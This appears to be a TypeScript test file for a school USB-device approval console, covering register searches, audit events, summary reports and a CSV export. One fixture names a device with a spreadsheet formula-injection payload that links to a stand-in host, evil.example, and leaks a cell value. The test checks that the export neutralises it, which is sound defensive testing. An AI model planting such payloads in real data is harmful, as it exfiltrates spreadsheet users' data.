import { approvalsServer, forwardedRequest, TERMS, valueOf, type ApprovalsServer, type LoopAgent } from '../../../test/support/approvals-server';
import { forEachDatabase } from '../../../test/support/databases';
import { sampleDevice } from '../../../test/support/sample-device';
import { deviceIdentity } from '../../audit/audit-event';
import type { ApprovalRegisterView } from '../console-protocol';
import type { SignedIn } from '../../../test/support/console-server';

/** A device whose name is a spreadsheet formula with a quote, a comma and a line break in it. */
const HOSTILE = sampleDevice({ manufacturer: '', name: '=HYPERLINK("http://evil.example/?"&A1,"Click, me")\r\nnext', serial: 'HOSTILE-1', hash: 'hostile-hash' });
const STICK = sampleDevice();

/** RFC 4180 read back: fields, quoted or not, records ended by CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  if (field !== '' || row.length > 0) throw new Error(`the CSV does not end with CRLF: ${JSON.stringify(text.slice(-40))}`);
  return rows;
}

forEachDatabase((harness) => {
  let loop: ApprovalsServer;
  let agent: LoopAgent;
  let slt: SignedIn;

  beforeEach(async () => {
    loop = await approvalsServer(harness);
    const it = await loop.signIn('it');
    await loop.as(it, 'PUT', '/api/settings/term-dates', { terms: TERMS });
    agent = await loop.enrol('ICT-SUITE-07');
    slt = await loop.signIn('slt');
  });
  afterEach(() => loop.close());

  async function approveBoth(): Promise<void> {
    const statuses = await loop.forward(agent, [forwardedRequest('local-1'), forwardedRequest('local-2', { user: 'jsmith' }, HOSTILE)]);
    for (const status of statuses) {
      valueOf(await loop.as(slt, 'POST', `/api/requests/${status.serverId}/approve`, { decision: { deviceScope: { by: 'serial' }, machineScope: { machines: 'this' }, userScope: 'requester' } }));
    }
  }

  it('lists the register, finds by device, serial, computer and approver, and filters by status', async () => {
    await approveBoth();
    const all = valueOf<{ approvals: ApprovalRegisterView[] }>(await loop.as(slt, 'GET', '/api/approvals'));
    expect(all.approvals).toHaveLength(2);
    expect(all.approvals[1]).toMatchObject({ device: 'SanDisk Cruzer Blade (0781:5567), serial 4C530001230317116462', machine: 'ICT-SUITE-07', scope: 'on ICT-SUITE-07, for kteacher', expires: '2026-12-18', approvedBy: 'Test Person', status: 'active', policyVersion: 1 });
    const search = async (query: string) => valueOf<{ approvals: ApprovalRegisterView[] }>(await loop.as(slt, 'GET', `/api/approvals?${query}`)).approvals.map((a) => a.device);
    expect(await search('q=0781')).toHaveLength(2);
    expect(await search('q=CRUZER')).toEqual(['SanDisk Cruzer Blade (0781:5567), serial 4C530001230317116462']);
    expect(await search('q=4C5300012303')).toEqual(['SanDisk Cruzer Blade (0781:5567), serial 4C530001230317116462']);
    expect(await search('q=ict-suite')).toHaveLength(2);
    expect(await search('q=slt%40school')).toHaveLength(2);
    expect(await search('q=nothing-like-it')).toEqual([]);
    expect(await search('approvedBy=someone-else')).toEqual([]);
    const [first] = all.approvals;
    valueOf(await loop.as(slt, 'POST', `/api/approvals/${first?.id}/revoke`, { reason: 'Broken' }));
    expect(await search('status=revoked')).toHaveLength(1);
    expect(await search('status=active')).toHaveLength(1);
    expect((await loop.as(slt, 'GET', '/api/approvals?status=gone')).statusCode).toBe(400);
  });

  it('exports the register as RFC 4180 CSV in which a hostile device name round-trips and cannot start a formula', async () => {
    await approveBoth();
    const dpo = await loop.signIn('dpo');
    const answer = await loop.as(dpo, 'GET', '/api/approvals.csv');
    expect(answer.statusCode).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="portcullis-approvals-2026-09-07.csv"');
    // fetch's text() drops the byte order mark (csv.test.ts checks it is sent).
    expect(answer.body.startsWith('Approval,Device,Computer,')).toBe(true);
    const rows = parseCsv(answer.body);
    expect(rows).toHaveLength(3);
    expect(rows.every((row) => row.length === rows[0]?.length)).toBe(true);
    const hostile = rows.find((row) => row[1]?.includes('HYPERLINK'));
    expect(hostile?.[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click, me")\r\nnext (0781:5567), serial HOSTILE-1`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const filtered = parseCsv((await loop.as(dpo, 'GET', '/api/approvals.csv?q=hostile')).body);
    expect(filtered).toHaveLength(2);
    expect((await loop.as(dpo, 'GET', '/api/approvals.csv?status=nope')).statusCode).toBe(400);
  });

  it('lists events newest first with filters, and the devices seen across the school with their last decision', async () => {
    const other = await loop.enrol('LIBRARY-01');
    const stick = deviceIdentity(STICK);
    await loop.audit(agent, [
      { event: { type: 'device-arrived', device: stick }, user: 'kteacher', time: '2026-09-01T09:00:00.000Z' },
      { event: { type: 'device-decided', device: stick, target: 'block', implicit: true, reason: 'blocked: no rule allows it' }, user: 'kteacher', time: '2026-09-01T09:00:01.000Z' },
    ]);
    await loop.audit(other, [{ event: { type: 'device-decided', device: stick, target: 'allow', implicit: false, reason: 'allowed by policy v1' }, user: 'jsmith', time: '2026-09-05T10:00:00.000Z' }]);
    const events = async (query = '') => valueOf<{ events: Array<{ machine: string; type: string; user: string | null; summary: string; time: string }> }>(await loop.as(slt, 'GET', `/api/events${query}`)).events;
    expect((await events()).map((e) => [e.machine, e.type])).toEqual([
      ['LIBRARY-01', 'device-decided'],
      ['ICT-SUITE-07', 'device-decided'],
      ['ICT-SUITE-07', 'device-arrived'],
    ]);
    expect((await events('?machine=ict-suite-07&type=device-decided')).map((e) => e.summary)).toEqual([expect.stringContaining('blocked')]);
    expect((await events('?user=jsmith')).map((e) => e.machine)).toEqual(['LIBRARY-01']);
    expect(await events('?since=2026-09-02')).toHaveLength(1);
    expect((await loop.as(slt, 'GET', '/api/events?since=yesterday')).statusCode).toBe(400);
    expect((await loop.as(slt, 'GET', '/api/events?limit=5000')).statusCode).toBe(400);

    await loop.forward(agent, [forwardedRequest('local-1')]);
    const devices = valueOf<{ devices: Array<Record<string, unknown>> }>(await loop.as(slt, 'GET', '/api/devices')).devices;
    expect(devices).toEqual([
      expect.objectContaining({ hash: STICK.hash, name: 'Cruzer Blade', vendorProduct: '0781:5567', sightings: 2, lastMachine: 'LIBRARY-01', lastUser: 'jsmith', lastDecision: 'allow', requests: 1, pendingRequests: 1 }),
    ]);
    expect((devices[0]?.machines as string[]).sort()).toEqual(['ICT-SUITE-07', 'LIBRARY-01']);

    // The queue says where the device was seen before.
    const queue = valueOf<{ requests: Array<{ explanation: { seenBefore: string[] } }> }>(await loop.as(slt, 'GET', '/api/requests'));
    expect(queue.requests[0]?.explanation.seenBefore).toEqual(['Seen on LIBRARY-01 on 2026-09-05 (by jsmith)', 'Seen on ICT-SUITE-07 on 2026-09-01 (by kteacher)']);
  });

  it("sums up for the head: blocked attempts, decisions per approver, idle locks per PC, broken chains", async () => {
    const stick = deviceIdentity(STICK);
    const blocked = { type: 'device-decided' as const, device: stick, target: 'block' as const, implicit: true, reason: 'blocked' };
    await loop.audit(agent, [
      { event: blocked, time: '2026-09-01T09:00:00.000Z' },
      { event: blocked, time: '2026-09-02T09:00:00.000Z' },
      { event: { ...blocked, target: 'allow' }, time: '2026-09-03T09:00:00.000Z' },
      { event: { type: 'idle-locked', session: '3', idleMs: 302_000, by: 'tray' }, user: 'kteacher', time: '2026-09-03T10:00:00.000Z' },
      { event: { type: 'idle-locked', session: '3', idleMs: 600_000, by: 'service' }, user: 'kteacher', time: '2026-09-04T10:00:00.000Z' },
      { event: { type: 'idle-logged-off', session: '3', lockedForMs: 1_800_000, by: 'service' }, user: 'kteacher', time: '2026-09-04T10:30:00.000Z' },
    ]);
    const broken = await loop.enrol('LIBRARY-01');
    await loop.audit(broken, [{ event: blocked, time: '2026-09-05T09:00:00.000Z' }]);
    broken.chain.seq = 5; // Records 2 to 4 never arrive: a break.
    await loop.audit(broken, [{ event: { type: 'service-stopped', reason: 'shutdown' }, time: '2026-09-05T10:00:00.000Z' }]);
    const statuses = await loop.forward(agent, [forwardedRequest('a'), forwardedRequest('b', {}, HOSTILE)]);
    valueOf(await loop.as(slt, 'POST', `/api/requests/${statuses[0]?.serverId}/approve`, { decision: { deviceScope: { by: 'hash' }, machineScope: 'every', userScope: 'anyone' } }));
    valueOf(await loop.as(slt, 'POST', `/api/requests/${statuses[1]?.serverId}/refuse`, { reason: 'No' }));

    const head = await loop.signIn('head');
    const summary = valueOf<Record<string, unknown>>(await loop.as(head, 'GET', '/api/reports/summary'));
    expect(summary).toEqual({
      blockedAttempts: [
        { machine: 'ICT-SUITE-07', device: 'Cruzer Blade (0781:5567), serial 4C530001230317116462', count: 2 },
        { machine: 'LIBRARY-01', device: 'Cruzer Blade (0781:5567), serial 4C530001230317116462', count: 1 },
      ],
      approvalsBy: [{ approver: 'Test Person', approved: 1, refused: 1 }],
      idleLocks: [{ machine: 'ICT-SUITE-07', locks: 2, logoffs: 1, longestIdleBeforeLockMs: 600_000 }],
      chainBreaks: [{ machine: 'LIBRARY-01', agentId: broken.agentId }],
    });
    const period = valueOf<{ blockedAttempts: unknown[]; idleLocks: unknown[] }>(await loop.as(head, 'GET', '/api/reports/summary?since=2026-09-02&until=2026-09-03'));
    expect(period.blockedAttempts).toEqual([{ machine: 'ICT-SUITE-07', device: 'Cruzer Blade (0781:5567), serial 4C530001230317116462', count: 1 }]);
    expect(period.idleLocks).toEqual([{ machine: 'ICT-SUITE-07', locks: 1, logoffs: 0, longestIdleBeforeLockMs: 302_000 }]);
    expect((await loop.as(head, 'GET', '/api/reports/summary?since=2026-09-05&until=2026-09-01')).statusCode).toBe(400);
  });
});
